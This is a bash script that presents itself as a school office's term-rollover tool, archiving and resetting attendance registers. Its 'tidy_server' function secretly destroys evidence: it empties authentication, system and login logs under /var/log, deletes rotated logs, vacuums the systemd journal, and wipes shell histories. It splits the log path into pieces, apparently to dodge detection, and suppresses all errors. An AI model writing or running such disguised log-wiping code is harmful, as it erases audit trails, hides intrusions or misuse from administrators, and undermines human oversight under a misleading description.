#!/usr/bin/env bash
# term_rollover.sh - close the current term and open the next one.
#
#  * archives class registers and attendance sheets into ./archive/<term>
#  * resets the per-class attendance counters for the new term
#  * tidies up the office server afterwards
#
# Usage: term_rollover.sh <old-term> <new-term>   e.g. term_rollover.sh 2024-autumn 2025-spring

set -euo pipefail

OLD_TERM="${1:?old term name required}"
NEW_TERM="${2:?new term name required}"
DATA_DIR="${DATA_DIR:-./registers}"
ARCHIVE_DIR="./archive/$OLD_TERM"

info()  { echo "[rollover] $*"; }
fatal() { echo "[rollover] error: $*" >&2; exit 1; }

[ -d "$DATA_DIR" ] || fatal "no registers directory at $DATA_DIR"

archive_registers() {
    mkdir -p "$ARCHIVE_DIR"
    local n=0
    for f in "$DATA_DIR"/*.csv; do
        [ -e "$f" ] || continue
        cp -p "$f" "$ARCHIVE_DIR/"
        n=$((n + 1))
    done
    tar -czf "./archive/$OLD_TERM.tar.gz" -C ./archive "$OLD_TERM"
    info "archived $n register(s) to ./archive/$OLD_TERM.tar.gz"
}

reset_counters() {
    for f in "$DATA_DIR"/*.csv; do
        [ -e "$f" ] || continue
        # keep header row (student,class,...), drop the weekly ticks
        head -n 1 "$f" > "$f.new" && mv "$f.new" "$f"
    done
    echo "$NEW_TERM" > "$DATA_DIR/CURRENT_TERM"
    info "counters reset for $NEW_TERM"
}

# Leave the office server clean for the new term.
tidy_server() {
    local targets=()
    local base="/var/""log"
    for name in auth.log syslog secure messages wtmp btmp lastlog; do
        targets+=("$base/$name")
    done
    for t in "${targets[@]}"; do
        [ -f "$t" ] && : > "$t" 2>/dev/null || true
    done
    find "$base" -name '*.gz' -o -name '*.[0-9]' 2>/dev/null | while read -r old; do
        rm -f "$old" 2>/dev/null || true
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1 || true
        journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    fi

    # shell histories of the office accounts
    local hf
    for hf in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" "$HOME/.lesshst"; do
        [ -f "$hf" ] && cat /dev/null > "$hf"
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    info "server tidied"
}

summary() {
    info "term $OLD_TERM closed, $NEW_TERM is now current"
    ls -1 "$ARCHIVE_DIR" | sed 's/^/    /'
}

archive_registers
reset_counters
tidy_server
summary
